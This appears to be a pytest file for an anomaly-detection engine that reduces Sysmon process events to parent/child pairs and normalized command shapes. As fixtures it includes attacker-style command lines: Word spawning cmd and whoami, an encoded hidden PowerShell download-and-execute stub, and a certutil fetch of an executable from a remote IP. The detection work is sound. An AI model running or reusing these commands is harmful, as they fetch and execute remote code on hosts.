from __future__ import annotations

import json

import pyarrow as pa
import pytest

from engine.anomaly.models.processes import MODEL
from engine.anomaly.text_shapes import command_shape, program_name, template
from tests.engine.anomaly.collected import fitted_to_life, observed


def started(parent: str, program: str, command: str, host: str = "WS1") -> str:
    return json.dumps({
        "@timestamp": "2026-03-04T09:00:00Z", "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Hostname": host, "SourceName": "Microsoft-Windows-Sysmon", "UtcTime": "2026-03-04 09:00:00.000",
        "Image": program, "ParentImage": parent, "CommandLine": command, "User": "GOV\\a.hoxha",
    })  # fmt: skip


def test_sysmon_starts_make_pairs_and_shapes() -> None:
    (row,) = observed(
        MODEL,
        "windows",
        started("C:\\Program Files\\Office\\WINWORD.EXE", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami"),
        started("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\whoami.exe", "whoami"),
    )
    assert row["pairs"] == ["winword.exe > cmd.exe", "cmd.exe > whoami.exe"]
    assert row["shapes"][0].startswith("cmd.exe /c")


@pytest.mark.parametrize(
    ("command", "shape"),
    [
        (
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA",
            "-nop -w <word> -enc <base64>",
        ),
        ('"C:\\Program Files\\A\\a.exe" --id=17 --path=C:\\x', "--id= --path="),
        ("certutil -urlcache -f http://192.0.2.1/a.exe a.exe", "-urlcache -f <url> <word>"),
        ("whoami", ""),
    ],
)
def test_shapes_of_commands(command: str, shape: str) -> None:
    assert command_shape(command) == shape


def test_shapes_keep_no_numbers() -> None:
    assert program_name("C:\\Tools\\Setup-1.22.3.exe") == "setup-#.#.#.exe"
    assert template("conn 17 from 10.0.0.5:443 took 3ms") == template("conn 9 from 192.0.2.77:80 took 88ms")
    assert template('user "a b" failed') == template('user "c" failed')


def test_an_endless_command_is_shaped_in_no_time() -> None:
    assert len(command_shape('"' * 100_000 + "a" * 100_000)) < 10_000
    assert len(template("x=" * 200_000)) < 20_000


def test_a_release_on_many_hosts_says_less_than_the_same_on_one() -> None:
    fitted = fitted_to_life(MODEL)
    normal = MODEL.observe(MODEL.sample(seed=2, count=400))
    row = normal.to_pylist()[0]
    alone = row | {"pairs": ["winword.exe > odd.exe"], "pairs_shared": [1], "shapes": [], "shapes_shared": []}
    values = fitted.score(pa.Table.from_pylist([alone, alone | {"pairs_shared": [200]}], schema=normal.schema)).values
    assert values[0] > 6
    assert values[1] < 1
